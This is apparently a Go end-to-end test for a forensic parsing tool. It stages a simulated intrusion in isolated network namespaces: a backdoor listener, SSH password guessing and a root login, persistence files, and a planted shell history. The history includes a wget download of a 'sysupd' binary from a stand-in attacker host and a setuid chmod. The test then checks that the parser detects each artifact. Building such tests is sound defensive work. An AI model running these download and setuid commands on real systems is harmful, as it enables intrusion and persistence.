package e2e

import (
	"bufio"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"time"

	"golang.org/x/crypto/ssh"
)

// The two ends of the wire. The addresses are those of documentation, so that
// nothing takes them for the examiner's own.
const (
	guestIP    = "203.0.113.10"
	attackerIP = "203.0.113.45"
	guestMAC   = "02:00:00:00:00:0a"
	otherMAC   = "02:00:00:00:00:2d"
	backdoor   = 31337
	sshPort    = 2222
	fixedPort  = 45454 // of the attacker's end
	download   = 40080 // of the guest's end
	datagrams  = 25
)

func ip(arguments string) error {
	if out, err := exec.Command("ip", strings.Fields(arguments)...).CombinedOutput(); err != nil {
		return fmt.Errorf("%w: ip %s: %w: %s", errNotPermitted, arguments, err, out)
	}
	return nil
}

// quiet leaves out what a kernel sends by itself, so that packets can be
// counted.
func quiet() error {
	for _, name := range []string{"all", "default", "lo"} {
		if err := os.WriteFile("/proc/sys/net/ipv6/conf/"+name+"/disable_ipv6", []byte("1"), 0); err != nil && !errors.Is(err, os.ErrNotExist) {
			return err
		}
	}
	return nil
}

func up(name, own, peer, peerMAC string) error {
	for _, do := range []string{
		"link set lo up", "addr add " + own + "/24 dev " + name, "link set " + name + " up",
		"neigh replace " + peer + " lladdr " + peerMAC + " dev " + name + " nud permanent",
	} {
		if err := ip(do); err != nil {
			return err
		}
	}
	return nil
}

// attacker is the other machine, as the guest drives it.
type attacker struct {
	to   *json.Encoder
	from *bufio.Scanner
}

// ask has the attacker do something and waits for its answer.
func (a *attacker) ask(words ...string) (string, error) {
	if err := a.to.Encode(words); err != nil {
		return "", err
	}
	if !a.from.Scan() {
		return "", fmt.Errorf("%v: the attacker is gone: %w", words, a.from.Err())
	}
	answer, ok := strings.CutPrefix(a.from.Text(), "ok ")
	if !ok {
		return "", fmt.Errorf("%v: %s", words, a.from.Text())
	}
	return answer, nil
}

// connect puts a wire between the guest and an attacker.
func (g *guest) connect() error {
	if err := quiet(); err != nil {
		return err
	}
	cmd := exec.Command(initPath)
	cmd.Args, cmd.Env, cmd.Stderr = []string{"attacker"}, append(os.Environ(), role+"="+roleAttacker), os.Stderr
	separate(cmd, syscall.CLONE_NEWNET)
	in, err := cmd.StdinPipe()
	if err != nil {
		return err
	}
	out, err := cmd.StdoutPipe()
	if err != nil {
		return err
	}
	if err := cmd.Start(); err != nil {
		return fmt.Errorf("%w: %w", errNotPermitted, err)
	}
	g.attacker = &attacker{json.NewEncoder(in), bufio.NewScanner(out)}
	if _, err := g.attacker.ask("quiet"); err != nil {
		return err
	}
	for i, pid := range []int{os.Getpid(), cmd.Process.Pid} {
		if g.truth.Networks[i], err = os.Readlink(fmt.Sprintf("/proc/%d/ns/net", pid)); err != nil {
			return err
		}
	}
	if err := ip(fmt.Sprintf("link add v0 address %s type veth peer name v1 address %s netns %d", guestMAC, otherMAC, cmd.Process.Pid)); err != nil {
		return err
	}
	if err := up("v0", guestIP, attackerIP, otherMAC); err != nil {
		return err
	}
	if _, err := g.attacker.ask("up"); err != nil {
		return err
	}
	for _, at := range []string{guestIP + fmt.Sprint(":", backdoor), "127.0.0.1:4444"} {
		l, err := net.Listen("tcp4", at)
		if err != nil {
			return err
		}
		g.kept = append(g.kept, l)
	}
	if _, err := g.attacker.ask("dial"); err != nil {
		return err
	}
	c, err := g.kept[0].(net.Listener).Accept()
	if err != nil {
		return err
	}
	_ = c.(*net.TCPConn).SetKeepAlive(false) // packets are counted
	g.kept = append(g.kept, c)
	g.truth.Listen = []int64{sshPort, 4444, backdoor}
	g.fact("a listener", fmt.Sprintf(`parser:live_sockets AND state:LISTEN AND src_port:%d AND src_ip:%s AND pid:1`, backdoor, guestIP), 1, time.Time{}, fmt.Sprintf(`"src_port":%d`, backdoor), `"pid":1`)
	g.fact("a listener on the loopback interface", `parser:live_sockets AND state:LISTEN AND src_port:4444 AND src_ip:127.0.0.1`, 1, time.Time{}, `"src_port":4444`)
	g.fact("a connection", fmt.Sprintf(`parser:live_sockets AND state:ESTAB AND src_port:%d AND dst_ip:%s AND dst_port:%d`, backdoor, attackerIP, fixedPort), 1, time.Time{}, fmt.Sprintf(`"dst_port":%d`, fixedPort), `"pid":1`)
	g.fact("a listener in another network namespace", `parser:live_sockets AND state:LISTEN AND src_port:8080 AND netns:"`+g.truth.Networks[1]+`"`, 1, time.Time{}, `"foreign":true`, `"src_port":8080`)
	return nil
}

// logDaemon writes what comes to /dev/log as a syslog daemon does.
func (g *guest) logDaemon() error {
	l, err := net.ListenUnixgram("unixgram", &net.UnixAddr{Name: "/dev/log", Net: "unixgram"})
	if err != nil {
		return err
	}
	out, err := os.OpenFile("/var/log/auth.log", os.O_CREATE|os.O_WRONLY|os.O_APPEND, 0o640)
	if err != nil {
		return err
	}
	g.kept = append(g.kept, l, out)
	go func() {
		buf := make([]byte, 8<<10)
		for {
			n, err := l.Read(buf)
			if err != nil {
				return
			}
			// "<38>Nov 25 02:44:00 sshd[12]: text"
			_, text, _ := strings.Cut(string(buf[:n]), ">")
			if len(text) > 16 {
				fmt.Fprintf(out, "%s victim %s\n", time.Now().UTC().Format("2006-01-02T15:04:05.000000-07:00"), strings.TrimRight(text[16:], "\n\x00"))
			}
		}
	}()
	return nil
}

// intrude lets the attacker guess, come in, and leave something behind.
func (g *guest) intrude() error {
	_, host, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return err
	}
	block, err := ssh.MarshalPrivateKey(host, "")
	if err != nil {
		return err
	}
	key, err := g.attacker.ask("key")
	if err != nil {
		return err
	}
	config := fmt.Sprintf("Port %d\nListenAddress %s\nHostKey /etc/ssh/host_key\nPermitRootLogin prohibit-password\nPasswordAuthentication yes\n"+
		"KbdInteractiveAuthentication no\nUsePAM no\nUseDNS no\nMaxStartups 100\nPidFile none\n", sshPort, guestIP)
	for path, text := range map[string]string{"/etc/ssh/host_key": string(pem.EncodeToMemory(block)), "/etc/ssh/sshd_config": config, "/root/.ssh/authorized_keys": key + "\n"} {
		if err := put(path, []byte(text), 0o600); err != nil {
			return err
		}
	}
	sshd, err := exec.LookPath("sshd")
	if err != nil {
		return err
	}
	if _, err := start(&exec.Cmd{Path: sshd, Args: []string{sshd, "-D", "-f", "/etc/ssh/sshd_config"}, Stderr: os.Stderr}); err != nil {
		return err
	}
	at := time.Now()
	if _, err := g.attacker.ask("guess"); err != nil {
		return err
	}
	g.fact("refused passwords", `parser:linux_syslog AND action:user-login AND outcome:failure AND user:bob AND method:password AND src_ip:`+attackerIP, guesses, at, "Failed password for bob from "+attackerIP)
	at = time.Now()
	if _, err := g.attacker.ask("login"); err != nil {
		return err
	}
	g.fact("an accepted key", `parser:linux_syslog AND action:user-login AND outcome:success AND user:root AND src_ip:`+attackerIP, 1, at, "Accepted publickey for root from "+attackerIP)
	// What the attacker types, as the shell would write it down.
	stamp := time.Now().Unix()
	if err := put("/root/.bash_history", fmt.Appendf(nil, "#%d\nwget http://203.0.113.45:8080/sysupd -O /usr/local/bin/sysupd\n#%d\nchmod 4755 /usr/local/bin/.sh\n", stamp, stamp+1), 0o600); err != nil {
		return err
	}
	g.fact("a history with times", `parser:bash_history AND cmdline:sysupd`, 1, time.Unix(stamp, 0), fmt.Sprint("#", stamp), "wget http://203.0.113.45:8080/sysupd")
	g.fact("the second command", `parser:bash_history AND cmdline:chmod`, 1, time.Unix(stamp+1, 0), "chmod 4755")
	g.fact("the connection of the login", fmt.Sprintf(`parser:live_sockets AND state:ESTAB AND src_port:%d AND dst_ip:%s`, sshPort, attackerIP), 1, time.Time{}, fmt.Sprintf(`"src_port":%d`, sshPort), "sshd")
	for path, word := range map[string]string{"/etc/cron.d/sysupd": "sysupd", "/etc/systemd/system/sysupd.service": "sysupd.service"} {
		if _, err := os.Stat(path); err != nil {
			return err
		}
		g.fact("persistence: "+word, `parser:fs_records AND file:"`+path+`"`, 0, at, path)
	}
	return nil
}

// traffic sends known packets while a capture runs.
func (g *guest) traffic() error {
	at := time.Now()
	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{
		DisableKeepAlives: true,
		DialContext:       (&net.Dialer{KeepAlive: -1, LocalAddr: &net.TCPAddr{IP: net.ParseIP(guestIP), Port: download}}).DialContext,
	}}
	resp, err := client.Get("http://" + attackerIP + ":8080/sysupd")
	if err != nil {
		return err
	}
	_, err = io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	if err != nil {
		return err
	}
	g.fact("a download", fmt.Sprintf(`data_type:net\:http AND url:"http://%s:8080/sysupd" AND src_port:%d`, attackerIP, download), 1, at, "GET /sysupd HTTP/1.1")
	at = time.Now()
	c, err := net.Dial("udp4", attackerIP+":9999")
	if err != nil {
		return err
	}
	defer c.Close()
	for i := range datagrams {
		if _, err := fmt.Fprintf(c, "known datagram %02d", i); err != nil {
			return err
		}
	}
	g.fact("datagrams", fmt.Sprintf(`data_type:net\:flow AND dst_port:9999 AND packets_out:%d AND packets_in:0`, datagrams), 1, at, "known datagram 00")
	time.Sleep(300 * time.Millisecond) // until the ends of the connection said goodbye
	return nil
}
